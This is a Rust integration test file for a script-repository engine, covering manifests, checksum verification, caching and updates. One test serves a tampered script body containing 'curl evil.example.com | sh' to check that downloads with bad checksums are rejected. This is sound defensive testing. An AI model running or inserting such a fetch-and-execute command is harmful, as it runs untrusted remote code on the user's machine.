//! Integration tests for the repository engine against an in-memory network.

use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use chrono::Duration;
use scriptrepo_config::{Config, ConfigStore};
use scriptrepo_core::{
    Category, Checksum, EntryFilter, ExecutionState, FetchPolicy, Fetcher, IncludesStatus,
    RepoError, RepoResult, ScheduledCheck, ScriptRepository, SourceKind, SourceStatus,
    UpdateReason,
};
use serde_json::json;
use tempfile::TempDir;
use url::Url;

const REPO: &str = "https://scripts.example.com/repo";
const MANIFEST_URL: &str = "https://scripts.example.com/repo/manifest.json";
const CHROME_URL: &str = "https://scripts.example.com/repo/install/chrome.sh";
const HTOP_URL: &str = "https://scripts.example.com/repo/tools/htop.sh";
const COMMON_URL: &str = "https://scripts.example.com/repo/includes/common.sh";
const MIRROR_MANIFEST_URL: &str = "https://mirror.example.com/m/manifest.json";
const MIRROR_HTOP_URL: &str = "https://mirror.example.com/m/tools/htop.sh";
const MIRROR_COMMON_URL: &str = "https://mirror.example.com/m/includes/common.sh";
const CDN_VIM_URL: &str = "https://cdn.example.com/vim.sh";

const CHROME: &[u8] = b"#!/usr/bin/env bash\nsource \"$INCLUDES/common.sh\"\napt-get install -y google-chrome-stable\n";
const HTOP: &[u8] = b"#!/usr/bin/env bash\napt-get install -y htop\n";

#[derive(Clone, Default)]
struct MockNetwork {
    bodies: Arc<Mutex<HashMap<String, Vec<u8>>>>,
    calls: Arc<Mutex<HashMap<String, usize>>>,
}

impl MockNetwork {
    fn serve(&self, url: &str, body: &[u8]) {
        self.bodies
            .lock()
            .unwrap()
            .insert(url.to_string(), body.to_vec());
    }

    fn take_down(&self, url: &str) {
        self.bodies.lock().unwrap().remove(url);
    }

    fn calls(&self, url: &str) -> usize {
        self.calls.lock().unwrap().get(url).copied().unwrap_or(0)
    }
}

impl Fetcher for MockNetwork {
    fn fetch_url(&self, url: &Url, _policy: FetchPolicy) -> RepoResult<Vec<u8>> {
        *self
            .calls
            .lock()
            .unwrap()
            .entry(url.to_string())
            .or_default() += 1;

        self.bodies
            .lock()
            .unwrap()
            .get(url.as_str())
            .cloned()
            .ok_or_else(|| RepoError::Transport {
                origin: url.to_string(),
                reason: "connection refused".to_string(),
            })
    }
}

/// Publishes the public manifest declaring the given checksums, and serves
/// `chrome` and `htop` as the script bodies.
fn publish(net: &MockNetwork, chrome: &[u8], htop: &[u8], declared: (&[u8], &[u8])) {
    let manifest = json!({
        "version": "1.0",
        "repository_version": "2026.10",
        "last_updated": "2026-10-01T12:00:00Z",
        "scripts": [
            {
                "id": "chrome-install",
                "name": "Google Chrome",
                "category": "install",
                "version": "1.0.0",
                "file_name": "chrome.sh",
                "download_url": CHROME_URL,
                "checksum": Checksum::of(declared.0).to_string(),
                "requires_sudo": true,
                "tags": ["browser"]
            },
            {
                "id": "htop",
                "name": "htop",
                "category": "tools",
                "version": "3.3.0",
                "file_name": "htop.sh",
                "download_url": HTOP_URL,
                "checksum": Checksum::of(declared.1).to_string(),
                "tags": ["monitor"]
            }
        ]
    });

    net.serve(MANIFEST_URL, manifest.to_string().as_bytes());
    net.serve(CHROME_URL, chrome);
    net.serve(HTOP_URL, htop);
    net.serve(COMMON_URL, b"log_info() { echo \"[info] $*\"; }\n");
}

fn write_local_toolkit(root: &Path) -> PathBuf {
    let toolkit = root.join("toolkit");
    std::fs::create_dir_all(toolkit.join("install")).unwrap();
    std::fs::write(toolkit.join("install").join("chrome.sh"), CHROME).unwrap();

    let manifest = json!({
        "version": "1.0",
        "repository_version": "local",
        "scripts": [
            {
                "id": "chrome-install",
                "name": "Chrome (local build)",
                "category": "install",
                "version": "0.9.0",
                "file_name": "chrome.sh",
                "download_url": "install/chrome.sh"
            }
        ]
    });
    let path = toolkit.join("manifest.json");
    std::fs::write(&path, manifest.to_string()).unwrap();
    path
}

/// Publishes a mirror whose `htop` collides with the public one.
fn publish_mirror(net: &MockNetwork) -> String {
    let manifest = json!({
        "version": "1.0",
        "scripts": [
            {
                "id": "htop",
                "name": "htop (mirror build)",
                "category": "tools",
                "version": "3.3.0-mirror",
                "file_name": "htop.sh",
                "download_url": MIRROR_HTOP_URL
            }
        ]
    });
    net.serve(MIRROR_MANIFEST_URL, manifest.to_string().as_bytes());
    net.serve(MIRROR_HTOP_URL, b"#!/bin/sh\necho mirror htop\n");
    net.serve(MIRROR_COMMON_URL, b"# mirror helpers\n");
    MIRROR_MANIFEST_URL.to_string()
}

/// Writes a local manifest whose only entry is served from a CDN.
fn write_local_manifest_with_network_entry(root: &Path, net: &MockNetwork) -> String {
    let mine = root.join("mine");
    std::fs::create_dir_all(mine.join("includes")).unwrap();
    std::fs::write(mine.join("includes").join("common.sh"), b"# mine helpers\n").unwrap();

    let manifest = json!({
        "version": "1.0",
        "scripts": [
            {
                "id": "vim",
                "name": "Vim",
                "category": "tools",
                "version": "9.1",
                "file_name": "vim.sh",
                "download_url": CDN_VIM_URL
            }
        ]
    });
    let path = mine.join("manifest.json");
    std::fs::write(&path, manifest.to_string()).unwrap();
    net.serve(CDN_VIM_URL, b"#!/bin/sh\napt-get install -y vim\n");
    path.display().to_string()
}

/// Publishes the public manifest without checksums, with the given `htop`
/// version.
fn publish_htop_version(net: &MockNetwork, version: &str) {
    let manifest = json!({
        "version": "1.0",
        "scripts": [
            {
                "id": "htop",
                "name": "htop",
                "category": "tools",
                "version": version,
                "file_name": "htop.sh",
                "download_url": HTOP_URL
            }
        ]
    });
    net.serve(MANIFEST_URL, manifest.to_string().as_bytes());
}

struct Fixture {
    temp: TempDir,
    net: MockNetwork,
    repo: ScriptRepository,
}

impl Fixture {
    fn new(with_local_source: bool) -> Self {
        Self::with_custom(|root, _| {
            if with_local_source {
                write_local_toolkit(root).display().to_string()
            } else {
                String::new()
            }
        })
    }

    /// Builds the public fixture plus the custom manifest location returned
    /// by `custom`.
    fn with_custom(custom: impl FnOnce(&Path, &MockNetwork) -> String) -> Self {
        let temp = TempDir::new().unwrap();
        let net = MockNetwork::default();
        publish(&net, CHROME, HTOP, (CHROME, HTOP));
        let custom = custom(temp.path(), &net);

        let store = ConfigStore::new(temp.path().join("config").join("config.json"));
        store
            .save(&Config {
                repository_url: REPO.to_string(),
                custom_manifest_url: custom,
                cache_timeout_days: 0,
                ..Config::default()
            })
            .unwrap();

        let repo = ScriptRepository::new(
            store,
            temp.path().join("cache"),
            Box::new(net.clone()),
        )
        .unwrap();

        Self { temp, net, repo }
    }

    fn cache_root(&self) -> PathBuf {
        self.temp.path().join("cache")
    }

    fn public(&self, id: &str) -> scriptrepo_core::ResolvedEntry {
        self.repo.find_entry(id, Some("public")).unwrap()
    }

    fn bundle_file(&self, entry: &scriptrepo_core::ResolvedEntry) -> PathBuf {
        self.repo
            .cache()
            .source_root(&entry.source)
            .join("includes")
            .join("common.sh")
    }
}

#[test]
fn test_resolution_is_union_of_sources() {
    let fixture = Fixture::new(true);
    let resolution = fixture.repo.resolve_sources().unwrap();

    assert_eq!(resolution.entries.len(), 3);
    assert_eq!(resolution.sources.len(), 2);
    assert!(
        resolution
            .sources
            .iter()
            .all(|r| r.status == SourceStatus::Fetched)
    );

    let chrome: Vec<_> = resolution
        .entries
        .iter()
        .filter(|r| r.entry.id == "chrome-install")
        .collect();
    assert_eq!(chrome.len(), 2);
    assert_eq!(chrome[0].source.id.kind, SourceKind::Public);
    assert_eq!(chrome[1].source.id.kind, SourceKind::CustomLocal);
    assert_eq!(chrome[1].source.id.name, "toolkit");

    // Grouped by category: install entries first.
    assert_eq!(resolution.entries[2].entry.category, Category::Tools);

    assert!(matches!(
        fixture.repo.find_entry("chrome-install", None),
        Err(RepoError::Ambiguous { .. })
    ));
}

#[test]
fn test_list_entries_filters() {
    let fixture = Fixture::new(true);

    let installs = fixture
        .repo
        .list_entries(&EntryFilter {
            category: Some(Category::Install),
            ..EntryFilter::default()
        })
        .unwrap();
    assert_eq!(installs.len(), 2);

    let monitors = fixture
        .repo
        .list_entries(&EntryFilter {
            tag: Some("monitor".to_string()),
            ..EntryFilter::default()
        })
        .unwrap();
    assert_eq!(monitors.len(), 1);
    assert_eq!(monitors[0].entry.id, "htop");
}

#[test]
fn test_download_verifies_checksum() {
    let fixture = Fixture::new(false);
    let chrome = fixture.public("chrome-install");

    let download = fixture.repo.download(&chrome).unwrap();
    let path = fixture.repo.lookup(&chrome).unwrap();

    assert_eq!(download.record.path, path);
    assert_eq!(path, fixture.cache_root().join("install").join("chrome.sh"));
    assert_eq!(
        Checksum::of_file(&path).unwrap(),
        *chrome.entry.checksum.as_ref().unwrap()
    );
    assert!(matches!(download.includes, IncludesStatus::Fetched { .. }));
    assert!(fixture.cache_root().join("includes").join("common.sh").is_file());
}

#[test]
fn test_tampered_download_is_rejected() {
    let fixture = Fixture::new(false);
    fixture.net.serve(CHROME_URL, b"#!/bin/sh\ncurl evil.example.com | sh\n");
    let chrome = fixture.public("chrome-install");

    let result = fixture.repo.download(&chrome);
    assert!(matches!(result, Err(RepoError::ChecksumMismatch { .. })));
    assert!(fixture.repo.lookup(&chrome).is_none());
    assert_eq!(fixture.repo.get_execution_state(&chrome), ExecutionState::Remote);
}

#[test]
fn test_rejected_download_keeps_previous_copy() {
    let fixture = Fixture::new(false);
    let chrome = fixture.public("chrome-install");
    fixture.repo.download(&chrome).unwrap();

    fixture.net.serve(CHROME_URL, b"<!DOCTYPE html><html><body>Not Found</body></html>");
    assert!(matches!(
        fixture.repo.download(&chrome),
        Err(RepoError::UnexpectedPayload { .. })
    ));

    let path = fixture.repo.lookup(&chrome).unwrap();
    assert_eq!(std::fs::read(path).unwrap(), CHROME);
}

#[test]
fn test_download_is_idempotent() {
    let fixture = Fixture::new(false);
    let chrome = fixture.public("chrome-install");

    fixture.repo.download(&chrome).unwrap();
    let path = fixture.repo.lookup(&chrome).unwrap();
    let first = std::fs::read(&path).unwrap();

    fixture.repo.download(&chrome).unwrap();
    let second = std::fs::read(&path).unwrap();

    assert_eq!(first, second);
    assert_eq!(fixture.repo.cache_stats().unwrap().total_files(), 1);
}

#[test]
fn test_verification_disabled_accepts_any_digest() {
    let fixture = Fixture::new(false);
    fixture
        .repo
        .set_config("verify_checksums", "false")
        .unwrap();
    fixture.net.serve(CHROME_URL, b"#!/bin/sh\necho patched\n");

    let chrome = fixture.public("chrome-install");
    fixture.repo.download(&chrome).unwrap();

    let path = fixture.repo.lookup(&chrome).unwrap();
    assert_eq!(std::fs::read(path).unwrap(), b"#!/bin/sh\necho patched\n");
}

#[test]
fn test_update_candidates_follow_manifest_changes() {
    let fixture = Fixture::new(false);
    let report = fixture.repo.download_all().unwrap();
    assert_eq!(report.succeeded, 2);

    let report = fixture.repo.update_all().unwrap();
    assert_eq!(report.candidates, 0);
    assert!(fixture.repo.config().unwrap().last_update_check.is_some());

    let htop_v2: &[u8] = b"#!/usr/bin/env bash\napt-get install -y htop btop\n";
    publish(&fixture.net, CHROME, htop_v2, (CHROME, htop_v2));

    let check = fixture.repo.check_for_updates().unwrap();
    assert_eq!(check.count(), 1);
    assert_eq!(check.candidates[0].resolved.entry.id, "htop");

    let report = fixture.repo.update_all().unwrap();
    assert_eq!(report.candidates, 1);
    assert_eq!(report.succeeded, 1);
    assert!(report.success());

    let htop = fixture.public("htop");
    assert_eq!(std::fs::read(fixture.repo.lookup(&htop).unwrap()).unwrap(), htop_v2);
    assert_eq!(fixture.repo.check_for_updates().unwrap().count(), 0);
}

#[test]
fn test_bulk_failures_are_isolated() {
    let fixture = Fixture::new(false);
    fixture.net.take_down(CHROME_URL);

    let report = fixture.repo.download_all().unwrap();
    assert_eq!(report.candidates, 2);
    assert_eq!(report.succeeded, 1);
    assert_eq!(report.failed, 1);
    assert_eq!(report.failures[0].id, "chrome-install");
    assert!(fixture.repo.lookup(&fixture.public("htop")).is_some());
}

#[test]
fn test_remove_and_clear_cache() {
    let fixture = Fixture::new(false);
    let chrome = fixture.public("chrome-install");

    fixture.repo.download(&chrome).unwrap();
    assert!(fixture.repo.remove(&chrome).unwrap());
    assert!(fixture.repo.lookup(&chrome).is_none());
    assert!(!fixture.repo.remove(&chrome).unwrap());

    fixture.repo.download_all().unwrap();
    assert_eq!(fixture.repo.clear_cache().unwrap(), 2);

    for category in Category::ALL {
        let dir = fixture.cache_root().join(category.as_str());
        assert!(dir.is_dir());
        assert_eq!(std::fs::read_dir(dir).unwrap().count(), 0);
    }
    assert!(fixture.cache_root().join("manifests").join("public.json").is_file());
}

#[test]
fn test_remove_all() {
    let fixture = Fixture::new(false);
    fixture.repo.download(&fixture.public("htop")).unwrap();

    let report = fixture.repo.remove_all().unwrap();
    assert_eq!(report.candidates, 1);
    assert_eq!(report.succeeded, 1);
    assert_eq!(report.skipped, 1);
    assert_eq!(fixture.repo.cache_stats().unwrap().total_files(), 0);
}

#[test]
fn test_local_entry_is_always_local() {
    let fixture = Fixture::new(true);
    let local = fixture.repo.find_entry("chrome-install", Some("toolkit")).unwrap();

    let state = fixture.repo.get_execution_state(&local);
    assert!(matches!(state, ExecutionState::Local { .. }));
    assert!(state.is_runnable());

    assert!(matches!(
        fixture.repo.download(&local),
        Err(RepoError::NotCacheable { .. })
    ));

    // Caching the public entry with the same id does not affect it.
    fixture.repo.download(&fixture.public("chrome-install")).unwrap();
    assert!(matches!(
        fixture.repo.get_execution_state(&local),
        ExecutionState::Local { .. }
    ));
}

#[test]
fn test_chrome_install_end_to_end() {
    let fixture = Fixture::new(false);
    let chrome = fixture.repo.find_entry("chrome-install", None).unwrap();
    assert_eq!(fixture.repo.get_execution_state(&chrome), ExecutionState::Remote);

    fixture.repo.download(&chrome).unwrap();
    let state = fixture.repo.get_execution_state(&chrome);
    assert!(matches!(state, ExecutionState::Cached { .. }));
    assert!(state.is_runnable());

    fixture.repo.remove(&chrome).unwrap();
    assert_eq!(fixture.repo.get_execution_state(&chrome), ExecutionState::Remote);
}

#[test]
fn test_stale_manifest_fallback() {
    let fixture = Fixture::new(false);
    fixture.repo.resolve_sources().unwrap();

    fixture.net.take_down(MANIFEST_URL);
    let resolution = fixture.repo.resolve_sources().unwrap();

    assert_eq!(resolution.entries.len(), 2);
    assert!(matches!(
        resolution.sources[0].status,
        SourceStatus::Stale { .. }
    ));
    assert_eq!(resolution.warnings.len(), 1);
}

#[test]
fn test_fresh_manifest_is_not_refetched() {
    let fixture = Fixture::new(false);
    fixture.repo.set_config("cache_timeout_days", "1").unwrap();

    fixture.repo.resolve_sources().unwrap();
    let resolution = fixture.repo.resolve_sources().unwrap();

    assert_eq!(fixture.net.calls(MANIFEST_URL), 1);
    assert_eq!(resolution.sources[0].status, SourceStatus::Cached);
}

#[test]
fn test_no_scripts_anywhere() {
    let fixture = Fixture::new(false);
    fixture.net.take_down(MANIFEST_URL);

    assert!(matches!(
        fixture.repo.resolve_sources(),
        Err(RepoError::NoScripts { sources: 1 })
    ));
    let resolution = fixture.repo.inspect_sources().unwrap();
    assert!(matches!(
        resolution.sources[0].status,
        SourceStatus::Failed { .. }
    ));
}

#[test]
fn test_includes_fetched_once_per_window() {
    let fixture = Fixture::new(false);
    fixture.repo.download(&fixture.public("chrome-install")).unwrap();
    let download = fixture.repo.download(&fixture.public("htop")).unwrap();

    assert!(matches!(download.includes, IncludesStatus::Reused { .. }));
    assert_eq!(fixture.net.calls(COMMON_URL), 1);
}

#[test]
fn test_includes_fall_back_to_local_reference() {
    let temp = TempDir::new().unwrap();
    let reference = temp.path().join("includes");
    std::fs::create_dir_all(&reference).unwrap();
    std::fs::write(reference.join("common.sh"), b"# local\n").unwrap();

    let fixture = Fixture::new(false);
    fixture.net.take_down(COMMON_URL);
    let repo = ScriptRepository::new(
        fixture.repo.store().clone(),
        fixture.cache_root(),
        Box::new(fixture.net.clone()),
    )
    .unwrap()
    .with_local_includes(&reference);

    let results = repo.sync_includes().unwrap();
    assert_eq!(results.len(), 1);
    assert_eq!(results[0].source.name, "public");
    assert!(results[0].status.is_available());
    assert!(
        fixture
            .cache_root()
            .join("includes")
            .join("common.sh")
            .is_file()
    );
}

#[test]
fn test_scheduled_check_respects_interval() {
    let fixture = Fixture::new(false);
    let now = chrono::Utc::now();

    let first = fixture.repo.run_scheduled_check_at(now).unwrap();
    assert!(matches!(first, ScheduledCheck::Checked(_)));

    let second = fixture
        .repo
        .run_scheduled_check_at(now + Duration::minutes(10))
        .unwrap();
    assert!(matches!(second, ScheduledCheck::NotDue { .. }));

    fixture
        .repo
        .set_config("auto_check_updates", "false")
        .unwrap();
    let third = fixture
        .repo
        .run_scheduled_check_at(now + Duration::days(2))
        .unwrap();
    assert!(matches!(third, ScheduledCheck::Disabled));
}

#[test]
fn test_scheduled_check_installs_updates() {
    let fixture = Fixture::new(false);
    fixture.repo.download(&fixture.public("htop")).unwrap();
    fixture
        .repo
        .set_config("auto_install_updates", "true")
        .unwrap();

    let htop_v2: &[u8] = b"#!/usr/bin/env bash\napt-get install -y htop\n# v2\n";
    publish(&fixture.net, CHROME, htop_v2, (CHROME, htop_v2));

    match fixture.repo.run_scheduled_check().unwrap() {
        ScheduledCheck::Updated(check, report) => {
            assert_eq!(check.count(), 1);
            assert_eq!(report.succeeded, 1);
        }
        other => panic!("expected updates to be installed, got {other:?}"),
    }
}

#[test]
fn test_two_engines_are_independent() {
    let a = Fixture::new(false);
    let b = Fixture::new(false);

    a.repo.download(&a.public("htop")).unwrap();
    b.repo.set_config("verify_checksums", "false").unwrap();

    assert_eq!(a.repo.cache_stats().unwrap().total_files(), 1);
    assert_eq!(b.repo.cache_stats().unwrap().total_files(), 0);
    assert_eq!(a.repo.get_config("verify_checksums").unwrap(), "true");
}

#[test]
fn test_network_entry_from_local_manifest_is_cached() {
    let fixture = Fixture::with_custom(write_local_manifest_with_network_entry);
    let vim = fixture.repo.find_entry("vim", Some("mine")).unwrap();
    assert_eq!(vim.source.id.kind, SourceKind::CustomLocal);
    assert_eq!(fixture.repo.get_execution_state(&vim), ExecutionState::Remote);

    let download = fixture.repo.download(&vim).unwrap();
    let path = fixture.repo.lookup(&vim).unwrap();
    assert_eq!(download.record.path, path);
    assert!(path.starts_with(fixture.cache_root().join("custom")));
    assert!(matches!(
        fixture.repo.get_execution_state(&vim),
        ExecutionState::Cached { .. }
    ));

    // The bundle comes from the directory holding the local manifest.
    assert!(matches!(download.includes, IncludesStatus::Fetched { .. }));
    assert_eq!(
        std::fs::read(fixture.bundle_file(&vim)).unwrap(),
        b"# mine helpers\n"
    );
    assert!(!fixture.cache_root().join("includes").exists());
}

#[test]
fn test_colliding_ids_are_cached_per_source() {
    let fixture = Fixture::with_custom(|_, net| publish_mirror(net));
    assert!(matches!(
        fixture.repo.find_entry("htop", None),
        Err(RepoError::Ambiguous { .. })
    ));

    let public = fixture.public("htop");
    let mirror = fixture
        .repo
        .find_entry("htop", Some("mirror.example.com"))
        .unwrap();
    assert_eq!(mirror.source.id.kind, SourceKind::CustomOnline);

    fixture.repo.download(&public).unwrap();
    fixture.repo.download(&mirror).unwrap();

    let public_path = fixture.repo.lookup(&public).unwrap();
    let mirror_path = fixture.repo.lookup(&mirror).unwrap();
    assert_eq!(public_path, fixture.cache_root().join("tools").join("htop.sh"));
    assert_eq!(
        mirror_path,
        fixture
            .repo
            .cache()
            .source_root(&mirror.source)
            .join("tools")
            .join("htop.sh")
    );
    assert_eq!(std::fs::read(&public_path).unwrap(), HTOP);
    assert_eq!(
        std::fs::read(&mirror_path).unwrap(),
        b"#!/bin/sh\necho mirror htop\n"
    );
    assert_eq!(fixture.repo.cache_stats().unwrap().total_files(), 2);

    assert!(fixture.repo.remove(&mirror).unwrap());
    assert!(fixture.repo.lookup(&public).is_some());
}

#[test]
fn test_sources_keep_separate_includes_bundles() {
    let fixture = Fixture::with_custom(|_, net| publish_mirror(net));
    let mirror = fixture
        .repo
        .find_entry("htop", Some("mirror.example.com"))
        .unwrap();

    let first = fixture.repo.download(&fixture.public("chrome-install")).unwrap();
    assert!(matches!(first.includes, IncludesStatus::Fetched { .. }));

    let custom = fixture.repo.download(&mirror).unwrap();
    assert!(matches!(custom.includes, IncludesStatus::Fetched { .. }));

    let again = fixture.repo.download(&fixture.public("htop")).unwrap();
    assert!(matches!(again.includes, IncludesStatus::Reused { .. }));
    assert_eq!(fixture.net.calls(COMMON_URL), 1);
    assert_eq!(fixture.net.calls(MIRROR_COMMON_URL), 1);

    assert_eq!(
        std::fs::read(fixture.cache_root().join("includes").join("common.sh")).unwrap(),
        b"log_info() { echo \"[info] $*\"; }\n"
    );
    assert_eq!(
        std::fs::read(fixture.bundle_file(&mirror)).unwrap(),
        b"# mirror helpers\n"
    );

    // Every cached script finds its helpers beside its category directory.
    let script = fixture.repo.lookup(&mirror).unwrap();
    let category_dir = script.parent().unwrap();
    assert!(
        category_dir
            .parent()
            .unwrap()
            .join("includes")
            .join("common.sh")
            .is_file()
    );
}

#[test]
fn test_bulk_download_syncs_includes_even_when_every_item_fails() {
    let fixture = Fixture::new(false);
    fixture.net.take_down(CHROME_URL);
    fixture.net.take_down(HTOP_URL);

    let report = fixture.repo.download_all().unwrap();
    assert_eq!(report.succeeded, 0);
    assert_eq!(report.failed, 2);
    assert_eq!(report.includes.len(), 1);
    assert_eq!(report.includes[0].source.name, "public");
    assert!(matches!(
        report.includes[0].status,
        IncludesStatus::Fetched { .. }
    ));
}

#[test]
fn test_version_change_detected_without_checksums() {
    let fixture = Fixture::new(false);
    fixture
        .repo
        .set_config("verify_checksums", "false")
        .unwrap();
    let htop = fixture.public("htop");
    fixture.repo.download(&htop).unwrap();
    assert_eq!(fixture.repo.check_for_updates().unwrap().count(), 0);

    publish_htop_version(&fixture.net, "3.4.0");
    let check = fixture.repo.check_for_updates().unwrap();
    assert_eq!(check.count(), 1);
    assert_eq!(
        check.candidates[0].reason,
        UpdateReason::VersionChanged {
            cached: "3.3.0".to_string(),
            available: "3.4.0".to_string(),
        }
    );

    let report = fixture.repo.update_all().unwrap();
    assert_eq!(report.succeeded, 1);
    assert_eq!(fixture.repo.check_for_updates().unwrap().count(), 0);
}
